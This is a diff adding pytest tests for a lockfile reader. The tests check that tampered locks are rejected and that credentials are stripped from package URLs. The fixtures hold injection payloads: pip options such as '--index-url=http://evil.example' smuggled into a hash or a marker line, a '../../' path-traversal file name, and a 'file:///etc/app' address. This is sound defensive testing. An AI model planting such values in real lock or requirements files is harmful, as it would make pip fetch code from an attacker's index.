@@ -183,3 +183,43 @@ def test_a_damaged_lock_is_named(tmp_path: Path, old: str, new: str, said: str) 
         lockfile.read(path)
     assert caught.value.path == path
     assert "delete it" in str(caught.value)
+
+
+#: A marker with a line of its own, as TOML.
+INJECTED = "marker = \"sys_platform == 'linux' or platform_release == '\\n--index-url=http://evil.example'\""
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ("0" * 64, "0" * 63),
+        ("0" * 64, "0" * 64 + " --index-url=http://evil.example"),
+        ("0" * 64, "0" * 64 + "\\n-r x"),
+        ('name = "app-1.0-py3-none-any.whl"', 'name = "../../app-1.0-py3-none-any.whl"'),
+        ('name = "app-1.0-py3-none-any.whl"', 'name = "app-2.0-py3-none-any.whl"'),
+        ('name = "app-1.0-py3-none-any.whl"', 'name = "other-1.0-py3-none-any.whl"'),
+        ("https://index.example/app", "file:///etc/app"),
+        ('version = "1.0"', f'version = "1.0"\n{INJECTED}'),
+    ],
+)
+def test_a_lock_of_others_smuggles_nothing(tmp_path: Path, old: str, new: str) -> None:
+    """Hash, name, address and marker are checked: they become paths, requests and lines for pip."""
+    path = lockfile.path_of(tmp_path, "base--linux")
+    text = lockfile.dump(lock_of(simple()), folder=tmp_path, target=LINUX, packages=tmp_path).decode()
+    assert old in text
+    path.write_text(text.replace(old, new), encoding="utf-8")
+    with pytest.raises(LockError, match="the lock cannot be read"):
+        lockfile.read(path)
+
+
+def test_an_address_in_a_lock_has_no_secret(tmp_path: Path) -> None:
+    """User and query go when a lock is read, whoever wrote it; large digits become small."""
+    path = lockfile.path_of(tmp_path, "base--linux")
+    text = lockfile.dump(lock_of(simple(sha256="a" * 64)), folder=tmp_path, target=LINUX, packages=tmp_path).decode()
+    text = text.replace(
+        "https://index.example/app-1.0-py3-none-any.whl", "https://me:pw@index.example/app-1.0-py3-none-any.whl?s=1"
+    )
+    path.write_text(text.replace("a" * 64, "A" * 64), encoding="utf-8")
+    (pin,) = lockfile.read(path).pins
+    assert pin.distribution.url == "https://index.example/app-1.0-py3-none-any.whl"
+    assert pin.distribution.sha256 == "a" * 64
